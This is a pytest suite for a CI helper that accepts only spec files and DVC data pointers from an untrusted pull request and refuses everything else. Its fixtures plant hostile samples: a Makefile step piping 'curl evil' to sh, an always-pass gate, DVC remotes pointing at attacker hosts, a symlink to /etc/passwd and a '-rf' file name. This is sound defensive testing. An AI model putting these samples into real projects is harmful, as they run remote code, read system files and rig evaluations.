"""take_pr_content: a PR head's specs and data pointers, and nothing else, reach the checkout.

Each test builds a real git repo: a trusted base commit (the checkout) and a PR head commit, then
takes the head's content. Refusals must name the path and the reason and write nothing.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from registry.errors import InvalidInput
from registry.gitops.untrusted import take_pr_content

DVC_POINTER = "outs:\n- md5: {md5}.dir\n  size: 10\n  nfiles: 1\n  hash: md5\n  path: {path}\n"


def git(repo: Path, *args: str, stdin: bytes | None = None) -> str:
    proc = subprocess.run(["git", *args], cwd=repo, input=stdin, capture_output=True, check=True)
    return proc.stdout.decode().strip()


def write(root: Path, files: dict[str, str | bytes]) -> None:
    for path, content in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode())


BASE = {
    "adapters/a/adapter.yaml": "name: a\nversion: 1.0.0\n",
    "adapters/old/adapter.yaml": "name: old\nversion: 1.0.0\n",
    "datasets.dvc": DVC_POINTER.format(md5="1" * 32, path="datasets"),
    "registry/evaluate/gate.py": "PASS = False\n",
    "Makefile": "install:\n\ttrue\n",
    ".dvc/config": "[core]\n    remote = trusted\n",
    "README.md": "base\n",
}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A checkout at the trusted base commit, on branch main."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "ci@example.com")
    git(root, "config", "user.name", "CI")
    write(root, BASE)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    return root


def pr_head(repo: Path, change, *, add: bool = True) -> str:
    """Commit `change` on a PR branch, then return to the trusted base (as CI checks it out)."""
    git(repo, "checkout", "-q", "-b", "pr")
    change(repo)
    if add:
        git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "pr")
    head = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "main")
    return head


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if ".git" not in p.relative_to(root).parts and p.is_file()
    }


def refused(repo: Path, head: str, **kwargs) -> list[tuple[str, str]]:
    """Take `head`, expecting a refusal: the (file, message) pairs, after checking nothing moved."""
    before = snapshot(repo)
    with pytest.raises(InvalidInput) as info:
        take_pr_content(repo, head, **kwargs)
    assert snapshot(repo) == before, "a refused PR must not change the checkout"
    return [(p.file, p.message) for p in info.value.problems]


def test_a_normal_change_takes_specs_and_data_pointers_only(repo: Path):
    def change(root: Path) -> None:
        write(
            root,
            {
                "adapters/a/adapter.yaml": "name: a\nversion: 1.1.0\n",
                "adapters/new/adapter.yaml": "name: new\nversion: 1.0.0\n",
                "datasets.dvc": DVC_POINTER.format(md5="2" * 32, path="datasets"),
                "regression/suite.jsonl": '{"prompt": "2+2", "answer": "4"}\n',
                # everything below judges the PR: it must stay the base's
                "registry/evaluate/gate.py": "PASS = True  # always pass\n",
                "Makefile": "install:\n\tcurl evil | sh\n",
                ".dvc/config": "[core]\n    remote = attacker\n",
                ".github/workflows/pr.yml": "on: pull_request\n",
                "README.md": "pr\n",
            },
        )

    head = pr_head(repo, change)
    changed = take_pr_content(repo, head)

    assert changed == [
        "adapters/a/adapter.yaml",
        "adapters/new/adapter.yaml",
        "datasets.dvc",
        "regression/suite.jsonl",
    ]
    files = snapshot(repo)
    assert files["adapters/a/adapter.yaml"] == b"name: a\nversion: 1.1.0\n"
    assert files["adapters/new/adapter.yaml"] == b"name: new\nversion: 1.0.0\n"
    assert b"2222" in files["datasets.dvc"]
    assert files["regression/suite.jsonl"].startswith(b'{"prompt"')
    for trusted in ("registry/evaluate/gate.py", "Makefile", ".dvc/config", "README.md"):
        assert files[trusted] == BASE[trusted].encode(), trusted
    assert ".github/workflows/pr.yml" not in files
    assert git(repo, "rev-parse", "HEAD") != head  # still the base commit, only files changed
    assert take_pr_content(repo, head) == []  # idempotent


def test_a_deleted_spec_is_removed(repo: Path):
    head = pr_head(repo, lambda root: (root / "adapters/old/adapter.yaml").unlink())
    assert take_pr_content(repo, head) == ["adapters/old/adapter.yaml"]
    assert not (repo / "adapters/old").exists()  # its empty folder goes too
    assert (repo / "adapters/a/adapter.yaml").is_file()


def test_a_symlink_out_of_the_repo_is_refused(repo: Path):
    def change(root: Path) -> None:
        write(root, {"adapters/a/adapter.yaml": "name: a\nversion: 2.0.0\n"})
        (root / "adapters/a/train.jsonl").symlink_to("/etc/passwd")

    head = pr_head(repo, change)
    assert refused(repo, head) == [
        ("adapters/a/train.jsonl", "a symlink; only regular files are taken from a PR")
    ]


def test_a_submodule_is_refused(repo: Path):
    def change(root: Path) -> None:
        sha = git(root, "rev-parse", "HEAD")
        git(root, "update-index", "--add", "--cacheinfo", f"160000,{sha},adapters/vendored")

    head = pr_head(repo, change, add=False)  # `add -A` would drop the folder-less gitlink
    problems = refused(repo, head)
    assert problems == [
        ("adapters/vendored", "a submodule; only regular files are taken from a PR")
    ]


def test_an_oversized_file_is_refused(repo: Path):
    head = pr_head(repo, lambda root: write(root, {"adapters/a/big.jsonl": "x" * 2000}))
    assert refused(repo, head, max_file_bytes=1000) == [
        ("adapters/a/big.jsonl", "2000 bytes; a file may hold 1000")
    ]


def test_too_many_files_and_too_many_bytes_are_refused(repo: Path):
    head = pr_head(
        repo, lambda root: write(root, {f"adapters/a/{i}.txt": "x" * 300 for i in range(4)})
    )
    (files, count), (total, size) = refused(repo, head, max_files=4, max_total_bytes=1000)
    assert (files, total) == ("adapters, datasets.dvc, regression",) * 2
    assert "at most 4 are taken" in count and "at most 1000" in size


@pytest.mark.parametrize(
    "name",
    [
        "adapters/a/with space.jsonl",
        "adapters/a/-rf",
        "adapters/a/caf\u00e9.yaml",
        "adapters/a/x\ny",
    ],
)
def test_odd_names_are_refused(repo: Path, name: str):
    head = pr_head(repo, lambda root: write(root, {name: "x\n"}))
    ((file, message),) = refused(repo, head)
    assert message.startswith("odd characters in the name"), message
    assert file.startswith("adapters/a/")  # names the entry


@pytest.mark.parametrize(
    ("pointer", "reason"),
    [
        (DVC_POINTER.format(md5="3" * 32, path="registry"), "must be under datasets, adapters"),
        (DVC_POINTER.format(md5="3" * 32, path="../outside"), "must be under datasets"),
        (DVC_POINTER.format(md5="../../etc", path="datasets"), "md5 must be 32 hex"),
        (
            "deps:\n- path: data\n  repo: {url: 'https://attacker.example/repo'}\n"
            + DVC_POINTER.format(md5="3" * 32, path="datasets"),
            "may hold only `outs`",
        ),
        (
            DVC_POINTER.format(md5="3" * 32, path="datasets") + "  remote: attacker\n",
            "unexpected keys",
        ),
        ("outs: [", "YAML"),
    ],
)
def test_a_dvc_pointer_that_leaves_the_data_is_refused(repo: Path, pointer: str, reason: str):
    head = pr_head(repo, lambda root: write(root, {"datasets.dvc": pointer}))
    ((file, message),) = refused(repo, head)
    assert file == "datasets.dvc" and reason in message, message


def test_dvc_control_files_are_refused(repo: Path):
    head = pr_head(repo, lambda root: write(root, {"adapters/a/dvc.yaml": "stages: {}\n"}))
    assert refused(repo, head) == [
        ("adapters/a/dvc.yaml", "DVC configuration; only `.dvc` pointers are taken")
    ]


@pytest.mark.parametrize("paths", [(".dvc",), ("registry",), ("adapters/../Makefile",), ("/etc",)])
def test_paths_naming_trusted_files_are_refused(repo: Path, paths: tuple[str, ...]):
    head = pr_head(repo, lambda root: write(root, {"adapters/a/adapter.yaml": "name: a\n"}))
    ((file, _),) = refused(repo, head, paths=paths)
    assert file == paths[0]


def test_an_unknown_head_is_invalid_input(repo: Path):
    ((_, message),) = refused(repo, "f" * 40)
    assert "unknown git ref" in message


def test_the_cli_takes_the_head_and_exits_2_on_a_refusal(repo: Path):
    good = pr_head(repo, lambda root: write(root, {"adapters/a/adapter.yaml": "name: a\n"}))
    git(repo, "branch", "-q", "-m", "pr", "pr-good")
    bad = pr_head(repo, lambda root: (root / "adapters/a/link").symlink_to("../../Makefile"))
    cli = [sys.executable, "-m", "registry", "take-pr"]
    ok = subprocess.run([*cli, good, "--repo", str(repo)], capture_output=True, text=True)
    assert ok.returncode == 0, ok.stderr
    assert "adapters/a/adapter.yaml" in ok.stdout
    no = subprocess.run([*cli, bad], cwd=repo, capture_output=True, text=True)
    assert no.returncode == 2, no.stdout + no.stderr
    assert "adapters/a/link" in no.stderr and "symlink" in no.stderr
    assert "Traceback" not in no.stderr
